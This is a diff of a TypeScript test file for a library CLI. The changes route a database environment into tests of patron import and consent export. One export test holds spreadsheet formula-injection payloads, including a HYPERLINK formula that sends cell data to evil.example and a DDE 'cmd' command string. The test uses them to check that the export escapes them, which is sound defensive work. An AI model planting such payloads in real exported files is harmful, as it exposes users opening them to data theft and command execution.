@@ -8,6 +8,7 @@ import { after, before, describe, test } from 'node:test'
 import { parse as parseCsv } from 'csv-parse/sync'
 import { verifySecret } from '../../src/services/passwords.js'
 import { openStore, type Store } from '../../src/store/store.js'
+import { envFor, freshDatabaseUrl } from '../support/database.js'
 import { WebClient, visibleText } from '../support/staffClient.js'
 import { startTestApp, type TestApp } from '../support/testApp.js'
 
@@ -42,7 +43,7 @@ function runCli(dir: string, args: string[], options: { input?: string; env?: Re
 describe('webpac CLI (SPEC 6)', () => {
   let app: TestApp
   let store: Store
-  const cli = (args: string[], options?: { input?: string }) => runCli(app.dir, args, options)
+  const cli = (args: string[], options?: { input?: string }) => runCli(app.dir, args, { ...options, env: envFor(store) })
 
   // A running server on the same database: the CLI must work beside it (WAL + busy_timeout).
   before(async () => {
@@ -359,7 +360,7 @@ describe('webpac CLI (SPEC 6)', () => {
       const polling = setInterval(() => {
         fetch(`${app.url}/healthz`).then((response) => { healthChecks += 1; healthy &&= response.ok }, () => { healthy = false })
       }, 250)
-      const run = await runCli(app.dir, ['patrons', 'import', file])
+      const run = await runCli(app.dir, ['patrons', 'import', file], { env: envFor(store) })
       clearInterval(polling)
 
       assert.equal(run.code, 1)
@@ -408,7 +409,8 @@ describe('webpac CLI (SPEC 6)', () => {
       mkdirSync(dir)
       writeFileSync(join(dir, 'messages.conf'), '')
       writeFileSync(join(dir, 'webpub.def'), '')
-      const own = openStore({ dataDir: join(dir, 'data') })
+      const own = await openStore({ dataDir: join(dir, 'data'), databaseUrl: await freshDatabaseUrl() })
+      const env = envFor(own)
       const event = (at: string, userAgent: string | null) => ({
         patron_id: 1, barcode: '6100000000001', e164: '+12015550123', from_status: 'not_opted_in' as const, to_status: 'pending_optin' as const,
         channel: 'web' as const, reason: 'web_opt_in', terms_hash: 'abc', at, ip: '192.0.2.1', user_agent: userAgent, inbound_message_id: null, actor: null,
@@ -418,9 +420,9 @@ describe('webpac CLI (SPEC 6)', () => {
       await own.close()
 
       const [all, since, bad] = await Promise.all([
-        runCli(dir, ['consent', 'export']),
-        runCli(dir, ['consent', 'export', '--since', '2025-02-01']),
-        runCli(dir, ['consent', 'export', '--since', '2025-02-30']),
+        runCli(dir, ['consent', 'export'], { env }),
+        runCli(dir, ['consent', 'export', '--since', '2025-02-01'], { env }),
+        runCli(dir, ['consent', 'export', '--since', '2025-02-30'], { env }),
       ])
       assert.equal(all.code, 0, all.stderr)
       assert.equal(all.stdout, [
@@ -442,7 +444,8 @@ describe('webpac CLI (SPEC 6)', () => {
       mkdirSync(dir)
       writeFileSync(join(dir, 'messages.conf'), '')
       writeFileSync(join(dir, 'webpub.def'), '')
-      const own = openStore({ dataDir: join(dir, 'data') })
+      const own = await openStore({ dataDir: join(dir, 'data'), databaseUrl: await freshDatabaseUrl() })
+      const env = envFor(own)
       const attacks = [
         '=HYPERLINK("https://evil.example/?d="&B2,"Click")',
         '+cmd|\' /C calc\'!A0',
@@ -460,7 +463,7 @@ describe('webpac CLI (SPEC 6)', () => {
       }
       await own.close()
 
-      const run = await runCli(dir, ['consent', 'export'])
+      const run = await runCli(dir, ['consent', 'export'], { env })
       assert.equal(run.code, 0, run.stderr)
       assert.match(run.stdout, /,"'=HYPERLINK\(""https:\/\/evil\.example\/\?d=""&B2,""Click""\)",/)
       const rows = parseCsv(run.stdout, { columns: true }) as Record<string, string>[]
